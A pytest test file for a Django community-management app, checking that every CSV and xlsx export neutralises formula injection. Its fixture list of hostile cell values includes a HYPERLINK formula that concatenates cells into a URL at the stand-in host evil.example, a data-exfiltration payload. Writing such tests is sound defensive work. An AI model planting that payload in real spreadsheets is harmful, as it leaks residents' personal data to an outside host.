"""No export writes a live formula: text that starts like one is written as text (CSV/formula injection)."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
from types import SimpleNamespace

import openpyxl
import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from jiayuan.conftest import ID_NUMBERS
from jiayuan.core.exports import FORMULA_PREFIXES, safe_cell, safe_row
from jiayuan.people import exporter
from jiayuan.places.models import Building, Compound, Household

# What an audit typed into names, notes, rooms and item names: each starts with a formula prefix.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&I2&J2,"点击查看")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


# --- the helper ----------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_every_formula_prefix(value):
    assert safe_cell(value) == "'" + value
    assert not safe_cell(value).startswith(FORMULA_PREFIXES)


@pytest.mark.parametrize(
    "value",
    [None, 0, -5, 3.5, decimal.Decimal("-1.5"), True, dt.date(2026, 4, 10), "张三", "", "1-301", "a=b", "'quoted"],
)
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value


def test_safe_row_maps_each_value():
    assert safe_row(["=1", 2, "x"]) == ["'=1", 2, "x"]
    assert safe_row(iter(["-1"])) == ["'-1"]


@given(st.text())
def test_a_safe_text_never_starts_like_a_formula(text):
    assert not safe_cell(text).startswith(FORMULA_PREFIXES)


def test_csv_written_through_safe_row_has_no_formula():
    buffer = io.StringIO()
    csv.writer(buffer).writerows([safe_row(HOSTILE)])
    (row,) = csv.reader(io.StringIO(buffer.getvalue()))
    assert all(cell.startswith("'") for cell in row)


# --- every xlsx export ---------------------------------------------------------------------------


def assert_no_formula(data: bytes) -> list[str]:
    """Every cell of every sheet: not a formula, no text starting with "="; the texts returned."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith("="), (sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


@pytest.fixture
def hostile_residents(neighbourhood, compound, building, household, make_resident):
    Compound.objects.filter(pk=compound.pk).update(name=HYPERLINK)
    Building.objects.filter(pk=building.pk).update(name="=1号楼")
    Household.objects.filter(pk=household.pk).update(room="-301")
    people = [
        make_resident(household, name=HOSTILE[i % 5][:64], notes=HOSTILE[i], id_number=ID_NUMBERS[i] if i < 5 else "")
        for i in range(len(HOSTILE))
    ]
    return people


@pytest.mark.django_db
@pytest.mark.parametrize("unmasked", [False, True])
def test_roster_export_masked_and_unmasked(head, hostile_residents, unmasked):
    texts = assert_no_formula(exporter.roster_export(actor=head, user=head, unmasked=unmasked))
    assert "'" + HYPERLINK in texts  # the compound, as text
    assert "'-301" in texts and "'@SUM(1,1)" in texts and "'\t=1+1" in texts


@pytest.mark.django_db
def test_missed_list_export(head, hostile_residents, neighbourhood):
    from jiayuan.screening import services
    from jiayuan.screening.exporting import missed_export

    round_ = services.round_create(actor=head, neighbourhood=neighbourhood, date=timezone.localdate())
    texts = assert_no_formula(missed_export(actor=head, round_=round_))
    assert "'=1号楼" in texts and "'+1+1" in texts


def _sheet_inputs():
    items = [SimpleNamespace(name="=HYPERLINK(1)", unit="+份"), SimpleNamespace(name="鸡蛋", unit="盒")]
    block = {
        "rows": [
            {
                "household": SimpleNamespace(label="-1单元 301室"),
                "mode_label": "@送货上门",
                "proxy": True,
                "quantities": [1, 2],
                "amount": decimal.Decimal("12.5"),
                "paid": True,
            }
        ],
        "households": 1,
        "totals": [1, 2],
        "amount": decimal.Decimal("12.5"),
        "building": SimpleNamespace(name="=1号楼", compound=SimpleNamespace(name="\t泰和苑")),
        "sealed": True,
    }
    group_buy = SimpleNamespace(title="=团购", delivery_date=dt.date(2026, 4, 10))
    return group_buy, items, block


def test_sorting_sheet_export():
    from jiayuan.supplies.exports import sorting_xlsx

    group_buy, items, block = _sheet_inputs()
    sheet = {"group_buy": group_buy, "items": items, "buildings": [block], "households": 1, "totals": [1, 2]}
    sheet["amount"] = decimal.Decimal("12.5")
    texts = assert_no_formula(sorting_xlsx(sheet))
    assert "'=1号楼" in texts and "'-1单元 301室" in texts and "'@送货上门 (代)" in texts


def test_delivery_checklist_export():
    from jiayuan.supplies.exports import checklist_xlsx

    group_buy, items, block = _sheet_inputs()
    texts = assert_no_formula(checklist_xlsx([{"group_buy": group_buy, "items": items, "buildings": [block]}], "=me"))
    assert "'=HYPERLINK(1)(+份)" in texts


@pytest.mark.django_db
def test_import_template(neighbourhood):
    assert_no_formula(exporter.roster_template(neighbourhood=neighbourhood))


def test_small_tables_export():
    from jiayuan.core.xlsx import Sheet, tables_xlsx

    sheet = Sheet(
        name="汇总", header=["楼栋", "=人数"], rows=[[HYPERLINK, 3], ["-1", -1]], title="@泰和", total=["+", 2]
    )
    texts = assert_no_formula(tables_xlsx([sheet]))
    assert "'" + HYPERLINK in texts and "'@泰和" in texts
